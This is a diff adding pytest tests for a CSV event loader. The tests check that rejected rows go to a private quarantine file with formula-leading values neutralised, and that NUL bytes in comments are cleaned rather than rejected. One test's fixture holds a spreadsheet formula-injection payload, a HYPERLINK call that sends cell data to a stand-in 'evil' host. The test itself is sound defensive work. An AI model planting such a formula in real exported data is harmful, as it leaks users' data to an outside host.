@@ -69,3 +69,39 @@ def test_duplicate_primary_ids_reject_every_copy(tmp_path):
     with pytest.warns(RowsRejectedWarning):
         loaded = load_reports(frame, on_error="quarantine", quarantine_path=tmp_path / "r.csv")
     assert loaded["report_id"].tolist() == ["r2"]
+
+
+def test_side_file_is_formula_safe_and_private(tmp_path):
+    import os
+
+    path = tmp_path / "events.csv"
+    path.write_text(
+        HEADER + '=HYPERLINK("http://evil/?"&A1),like,9,bad-time\n1,like,00123,2026-03-02T10:00:00Z\n'
+        "@SUM(1+1),like,9,\n",
+        encoding="utf-8",
+    )
+    with pytest.warns(RowsRejectedWarning):
+        frame = load_events(path, on_error="quarantine")
+    side = rejected_path_for(path)
+    assert (os.stat(side).st_mode & 0o777) == 0o600
+    rejected = pd.read_csv(side, dtype=str, keep_default_na=False, encoding="utf-8-sig")
+    assert rejected["account_id"].tolist() == ["'=HYPERLINK(\"http://evil/?\"&A1)", "'@SUM(1+1)"]
+    assert rejected["_row"].tolist() == ["1", "3"]
+    assert len(frame) + len(rejected) == 3
+
+
+def test_nul_in_a_comment_never_costs_the_event(tmp_path):
+    path = tmp_path / "events.csv"
+    path.write_text(
+        "account_id,action,target_id,ts,text\n"
+        '1,comment,v1,2026-03-02T10:00:00Z,"hi\x00there"\n2,share,v1,2026-03-02T10:00:00Z,\n',
+        encoding="utf-8",
+    )
+    import warnings
+
+    with warnings.catch_warnings(record=True) as caught:
+        warnings.simplefilter("always")
+        frame = load_events(path, on_error="quarantine")
+    assert frame["action"].tolist() == ["comment", "share"]
+    assert load_report(frame).rejected == 0 and not rejected_path_for(path).exists()
+    assert [type(w.message).__name__ for w in caught] == ["ValuesCleanedWarning"]
